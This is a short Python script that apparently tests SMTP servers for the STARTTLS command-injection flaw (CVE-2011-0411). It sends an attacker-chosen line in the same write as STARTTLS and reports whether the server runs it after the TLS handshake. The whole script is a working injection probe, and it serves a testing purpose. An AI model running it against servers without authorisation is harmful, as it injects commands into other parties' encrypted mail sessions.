"""The STARTTLS command-injection attack (RFC 3207 4.2, CVE-2011-0411): plaintext sent in the same
packet as STARTTLS must be thrown away, not run after the handshake.

usage: starttls_inject.py HOST:PORT CAFILE INJECTED_LINE NEXT_LINE [NAME]
Sends "EHLO", then "STARTTLS\\r\\n" + INJECTED_LINE in one write, does the handshake, sends EHLO and
NEXT_LINE over TLS, and prints each reply as "REPLY <text>" (multi-line replies joined by "|").
"""
import socket
import ssl
import sys

host, port = sys.argv[1].rsplit(":", 1)
cafile, injected, next_line = sys.argv[2], sys.argv[3], sys.argv[4]
name = sys.argv[5] if len(sys.argv) > 5 else "localhost"


def reply(sock):
    """One whole reply, read a byte at a time so nothing after it is taken from the socket."""
    lines, line = [], b""
    while True:
        b = sock.recv(1)
        if not b:
            raise SystemExit("connection closed: " + "|".join(lines))
        line += b
        if line.endswith(b"\r\n"):
            text = line[:-2].decode()
            lines.append(text)
            line = b""
            if len(text) < 4 or text[3] == " ":
                return "|".join(lines)


raw = socket.create_connection((host, int(port)), timeout=30)
print("REPLY " + reply(raw))
raw.sendall(b"EHLO client.example\r\n")
print("REPLY " + reply(raw))
raw.sendall(b"STARTTLS\r\n" + injected.encode() + b"\r\n")
print("REPLY " + reply(raw))
ctx = ssl.create_default_context(cafile=cafile)
tls = ctx.wrap_socket(raw, server_hostname=name)
tls.sendall(b"EHLO client.example\r\n")
print("REPLY " + reply(tls))
tls.sendall(next_line.encode() + b"\r\n")
print("REPLY " + reply(tls))
tls.sendall(b"QUIT\r\n")
print("REPLY " + reply(tls))
